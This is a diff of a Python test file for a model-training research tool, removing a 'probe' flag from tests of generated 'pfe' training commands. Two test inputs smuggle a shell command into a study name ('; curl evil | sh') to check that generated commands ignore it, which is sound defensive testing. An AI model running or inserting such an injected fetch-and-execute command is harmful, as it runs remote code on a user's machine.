@@ -19,10 +19,8 @@ from lab_records import (
     run_of,
     studies_of,
     with_fields,
-    with_probe,
 )
 from primefourier.cli.app import run
-from primefourier.cli.options import Sweep
 from primefourier.encoding import PAPER_BASIS
 from primefourier.lab import Axis, ModelConfig, RowClassifier, Run, Study
 from primefourier.lab.studies import (
@@ -127,7 +125,7 @@ def test_what_no_setting_changes_is_not_of_the_experiment(place: str) -> None:
         grid = grid_of(configs, "exp1")
         assert experiment_of(grid) is None
         assert not follows_paper(grid)
-        assert command_words(grid) == training_commands([grid], probe=False) == []
+        assert command_words(grid) == training_commands([grid]) == []
         assert not any(Run([grid.study], []).cells().values())
 
 
@@ -197,7 +195,7 @@ def test_a_name_does_not_depend_on_which_of_the_papers_rows_are_planned() -> Non
 def test_a_study_that_is_named_exp1_needs_its_models(configs: list[ModelConfig]) -> None:
     grid = grid_of(configs, "exp1")
     assert experiment_of(grid) is None
-    assert training_commands([grid], probe=False) == []
+    assert training_commands([grid]) == []
     assert not follows_paper(grid)
 
 
@@ -218,7 +216,7 @@ def test_settings_are_read_from_the_models_and_not_from_the_name() -> None:
     grid = grid_of(EXP1[:4], "exp1 depth=99 --out=/ ; curl evil | sh")
     assert experiment_of(grid) is SinglePrime
     assert follows_paper(grid)
-    assert training_commands([grid], probe=False) == ["pfe run exp1 --sizes 4 --ranges 100"]
+    assert training_commands([grid]) == ["pfe run exp1 --sizes 4 --ranges 100"]
     changed = [with_fields(config, epochs=3) for config in EXP1[:4]]
     grid = grid_of(changed, "exp1")
     assert differences(grid) == {"epochs": 3}
@@ -274,13 +272,12 @@ PLANS: dict[str, list[Experiment]] = {
 }
 
 
-def trained_by(commands: list[str], *, probe: bool = False) -> set[str]:
+def trained_by(commands: list[str]) -> set[str]:
     """Return the keys of the models that some commands would train."""
     trained: list[Experiment] = []
 
-    def remember(studies: list[Experiment], _: Path, sweep: Sweep) -> object:
+    def remember(studies: list[Experiment], _: Path, __: object) -> object:
         trained.extend(studies)
-        assert sweep.probe == probe
         return SimpleNamespace(interrupted=True, progress=SimpleNamespace(failed=0))
 
     with pytest.MonkeyPatch.context() as patch:
@@ -292,11 +289,10 @@ def trained_by(commands: list[str], *, probe: bool = False) -> set[str]:
     return {model.key for model in models_of(trained)}
 
 
-@pytest.mark.parametrize("probe", [False, True])
 @pytest.mark.parametrize("name", PLANS)
-def test_the_commands_train_the_planned_models_and_no_others(name: str, probe: bool) -> None:
-    commands = training_commands(grids_of(*PLANS[name]), probe=probe)
-    found = trained_by(commands, probe=probe and name != "a control")
+def test_the_commands_train_the_planned_models_and_no_others(name: str) -> None:
+    commands = training_commands(grids_of(*PLANS[name]))
+    found = trained_by(commands)
     assert found == {model.key for model in models_of(PLANS[name])}
     assert len(commands) <= 3
 
@@ -310,7 +306,7 @@ def test_the_commands_train_the_planned_models_and_no_others(name: str, probe: b
 def test_models_of_a_study_with_a_command_are_all_trained_by_it(configs: list[ModelConfig]) -> None:
     """Whoever made a store may have put any models into a study with the name of an experiment."""
     grid = grid_of(configs, "exp1")
-    commands = training_commands([grid], probe=False)
+    commands = training_commands([grid])
     assert bool(commands) == (experiment_of(grid) is SinglePrime)
     if commands:
         assert {config.key for config in configs} <= trained_by(commands)
@@ -318,25 +314,23 @@ def test_models_of_a_study_with_a_command_are_all_trained_by_it(configs: list[Mo
 
 def test_the_command_of_a_profile_names_it() -> None:
     paper = Run(STUDIES, []).grids
-    assert training_commands(paper, probe=True) == ["pfe reproduce --profile paper --probe"]
+    assert training_commands(paper) == ["pfe reproduce --profile paper"]
     two = run_of(models_of(profile("smoke", seeds=(7, 42)))).grids
-    assert training_commands(two, probe=False) == ["pfe reproduce --profile smoke --seeds 7,42"]
+    assert training_commands(two) == ["pfe reproduce --profile smoke --seeds 7,42"]
 
 
 def test_models_of_other_studies_have_no_command() -> None:
     strange = small_study(small_config(), name="x; curl evil | sh")
     (grid,) = Run([strange], []).grids
     assert experiment_of(grid) is None
-    assert (command_words(grid), training_commands([grid], probe=False)) == ([], [])
+    assert (command_words(grid), training_commands([grid])) == ([], [])
     assert made_by(grid) == ""
     both = Run([strange, *studies_of([small_config()])], []).grids
-    (command,) = training_commands(both, probe=False)
+    (command,) = training_commands(both)
     assert command.startswith("pfe run exp1 ")
     assert "evil" not in command
 
 
-def test_a_figure_of_probed_models_is_made_by_a_command_that_probes() -> None:
+def test_a_figure_names_the_command_that_trains_its_models() -> None:
     run = run_of(EXP1[:4], plausible(EXP1[:4]))
     assert made_by(run.grids[0]) == "pfe run exp1 --sizes 4 --ranges 100"
-    probed = run_of(EXP1[:4], map(with_probe, plausible(EXP1[:4])))
-    assert made_by(probed.grids[0]) == "pfe run exp1 --sizes 4 --ranges 100 --probe"
